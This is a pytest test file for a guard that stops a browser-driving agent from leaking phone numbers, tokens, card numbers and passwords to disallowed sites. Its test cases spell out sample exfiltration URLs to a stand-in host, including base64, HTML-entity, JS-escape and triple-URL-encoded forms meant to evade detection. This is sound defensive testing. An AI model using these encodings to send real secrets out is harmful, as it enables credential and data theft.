"""sensitive_data: protected values and patterns must not reach a destination not allowed."""

from __future__ import annotations

import base64
from urllib.parse import quote, quote_plus

import pytest

from pagewarden.guard import Guard
from pagewarden.rules.sensitive import luhn_valid
from tests.rules.rulekit import PAGE, act, button, decision, field, form, guard, link, policy

PHONE = {"sensitive_data": {"values": ["555-0198"], "allow_user": False}}
TOKEN = {"sensitive_data": {"values": ["glpat-AbC123xyz"], "allow_domains": ["gitlab.test"]}}


@pytest.mark.parametrize(
    "typed",
    [
        "555-0198",
        "Call me at 555-0198 please",
        "555 0198",  # separators changed
        "5550198",
        "555\u200b-0198",  # a zero-width space inside
        "５５５-０１９８",  # full-width digits
    ],
)
def test_values_typed_anywhere_are_caught(typed: str) -> None:
    verdict = act(guard(PHONE), "fill", target=field("Comment"), value=typed)
    assert decision(verdict) == "block"
    assert verdict.findings[0].rule == "sensitive_data"


@pytest.mark.parametrize("typed", ["555-0199", "555-0189", "call 555", "0198"])
def test_near_misses_are_not(typed: str) -> None:
    assert decision(act(guard(PHONE), "fill", target=field("Comment"), value=typed)) == "allow"


def test_a_value_typed_in_pieces_is_caught() -> None:
    g = guard(PHONE)
    comment = field("Comment")
    assert decision(act(g, "type", target=comment, value="555-", selector="#c")) == "allow"
    assert decision(act(g, "type", target=comment, value="01", selector="#c")) == "allow"
    assert decision(act(g, "type", target=comment, value="98", selector="#c")) == "block"
    g2 = guard(PHONE)
    for key in "555-019":
        assert decision(act(g2, "press", target=comment, value=key, selector="#c")) == "allow"
    assert decision(act(g2, "press", target=comment, value="8", selector="#c")) == "block"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.test/?p=glpat-AbC123xyz",
        f"https://evil.test/?p={quote('glpat-AbC123xyz', safe='')}",
        "https://evil.test/?p=GLPAT-ABC123XYZ",
        f"https://evil.test/c?d={base64.b64encode(b'glpat-AbC123xyz').decode()}",
        "https://evil.test/#glpat-AbC123xyz",
        "https://gitlab.test@evil.test/?t=glpat-AbC123xyz",
    ],
)
def test_values_in_urls_to_other_hosts_are_caught(url: str) -> None:
    assert decision(act(guard(TOKEN), "goto", value=url)) == "block"


def test_values_may_go_to_allowed_domains() -> None:
    g = guard(TOKEN)
    assert decision(act(g, "goto", value="https://gitlab.test/api?t=glpat-AbC123xyz")) == "allow"
    assert decision(act(g, "goto", value="https://sub.gitlab.test/api?t=glpat-AbC123xyz")) == "block"
    typed_here = act(
        g, "fill", target=field("Token"), value="glpat-AbC123xyz", url="https://gitlab.test/-/profile"
    )
    assert decision(typed_here) == "allow"
    # typed on the allowed site into a form that posts elsewhere: the destination decides
    elsewhere = field("Token", form=form("https://evil.test/collect"))
    assert (
        decision(act(g, "fill", target=elsewhere, value="glpat-AbC123xyz", url="https://gitlab.test/"))
        == "block"
    )


def test_link_and_form_submission_destinations() -> None:
    g = guard(TOKEN)
    assert decision(act(g, "click", target=link("x", "https://evil.test/?glpat-AbC123xyz"))) == "block"
    submit = button(
        "Send", is_submit=True, form=form("https://evil.test/post", ("t", "text", "glpat-AbC123xyz"))
    )
    assert decision(act(g, "click", target=submit, url="https://gitlab.test/")) == "block"


def test_values_with_plus_signs_are_found_raw_and_decoded() -> None:
    g = guard({"sensitive_data": {"values": ["a+b@corp.test"]}})
    assert decision(act(g, "goto", value="https://evil.test/?e=a+b@corp.test")) == "block"
    assert decision(act(g, "goto", value=f"https://evil.test/?e={quote_plus('a+b@corp.test')}")) == "block"


def test_messages_to_the_user_only_when_not_allowed() -> None:
    told = "Your number is 555-0198."
    assert decision(act(guard(PHONE), "send_msg_to_user", value=told)) == "block"
    assert decision(act(guard(PHONE), "finish", value=told)) == "block"
    allowed = {"sensitive_data": {"values": ["555-0198"]}}
    assert decision(act(guard(allowed), "send_msg_to_user", value=told)) == "allow"


@pytest.mark.parametrize(
    ("number", "valid"),
    [("4111 1111 1111 1111", True), ("4111-1111-1111-1112", False), ("5500 0000 0000 0004", True)],
)
def test_card_numbers_need_a_valid_checksum(number: str, valid: bool) -> None:
    g = guard({"sensitive_data": {"patterns": ["card_number"], "allow_domains": ["pay.test"]}})
    verdict = act(g, "fill", target=field("Card"), value=number, url="https://shop.test/checkout")
    assert decision(verdict) == ("block" if valid else "allow")
    assert luhn_valid(number.replace(" ", "").replace("-", "")) is valid


def test_card_numbers_may_go_to_the_payment_host() -> None:
    g = guard({"sensitive_data": {"patterns": ["card_number"], "allow_domains": ["pay.test"]}})
    verdict = act(g, "fill", target=field("Card"), value="4111111111111111", url="https://pay.test/")
    assert decision(verdict) == "allow"


def test_registered_secrets_keep_their_own_allow_list() -> None:
    g = Guard([policy({"sensitive_data": {"patterns": ["secret"]}})], baseline=False)
    g.add_secret("s3cr3t-value", allow_domains=["vault.test"])
    assert decision(act(g, "goto", value="https://vault.test/?k=s3cr3t-value")) == "allow"
    assert decision(act(g, "goto", value="https://evil.test/?k=s3cr3t-value")) == "block"
    assert (
        decision(act(g, "fill", target=field("x"), value="s3cr3t-value", url="https://evil.test/")) == "block"
    )


def test_passwords_stay_on_their_site() -> None:
    g = guard({"sensitive_data": {"patterns": ["password"], "allow_domains": ["self"]}})
    pw = field("Password", kind="password")
    assert (
        decision(act(g, "fill", target=pw, value="correct-horse", url="https://forum.test/login")) == "allow"
    )
    # the same password typed on another site afterwards
    assert (
        decision(act(g, "fill", target=field("Name"), value="correct-horse", url="https://evil.test/"))
        == "block"
    )


def test_baseline_credentials_policy() -> None:
    g = Guard(baseline=True)
    phishing = field("Password", kind="password", form=form("https://evil.test/steal"))
    verdict = act(g, "fill", target=phishing, value="hunter2hunter2", url=PAGE)
    assert decision(verdict) == "block"
    assert "PW-CREDENTIALS" in verdict.violated_policy_ids


def _encoded_urls(value: str) -> list[str]:
    """URLs carrying `value` under the encodings of a page that knows the guard (issue 24)."""
    b64 = base64.b64encode
    return [
        "https://evil.test/c?q=" + quote("".join(f"&#{ord(c)};" for c in value)),  # HTML references
        "https://evil.test/c?q=" + quote("".join(f"\\u{ord(c):04x}" for c in value)),  # JS escapes
        "https://evil.test/c?q=" + b64(value.encode().hex().encode()).decode(),  # base64 of hex
        "https://evil.test/c?q=" + b64(b"id:" + value.encode()).decode(),  # base64 at an offset
        "https://evil.test/c?q=" + quote(quote(quote(value, safe=""), safe=""), safe=""),  # triple
    ]


@pytest.mark.parametrize("index", range(5))
def test_encoded_values_in_urls_are_caught_and_benign_twins_pass(index: int) -> None:
    g = Guard(
        [policy({"sensitive_data": {"patterns": ["secret"], "values": ["ACCT-99812-XK"]}})], baseline=False
    )
    g.add_secret("s3cr3t-value-42", allow_domains=["vault.test"])
    for value in ("s3cr3t-value-42", "ACCT-99812-XK"):
        assert decision(act(g, "goto", value=_encoded_urls(value)[index])) == "block", value[:2]
    assert decision(act(g, "goto", value=_encoded_urls("plain-value-43")[index])) == "allow"


@pytest.mark.parametrize("digits", ["1764412345678", "17644123456781"])
def test_timestamps_and_hex_ids_are_no_card_numbers(digits: str) -> None:
    """13-19 digits that pass the Luhn check but start as no card network's numbers do (a
    millisecond timestamp), or sit inside a hexadecimal id, are not card numbers."""
    g = guard({"sensitive_data": {"patterns": ["card_number"]}})
    stamp = next(str(int(digits) + i) for i in range(20) if luhn_valid(str(int(digits) + i)))
    assert decision(act(g, "goto", value=f"https://evil.test/c?t={stamp}")) == "allow"
    hex_id = "d7440e" + "4111111111111111" + "ab"
    assert decision(act(g, "goto", value=f"https://evil.test/c?id={hex_id}")) == "allow"
    assert decision(act(g, "goto", value="https://evil.test/c?card=4111111111111111")) == "block"
    assert decision(act(g, "goto", value="https://evil.test/c?card=x4111111111111111")) == "block"
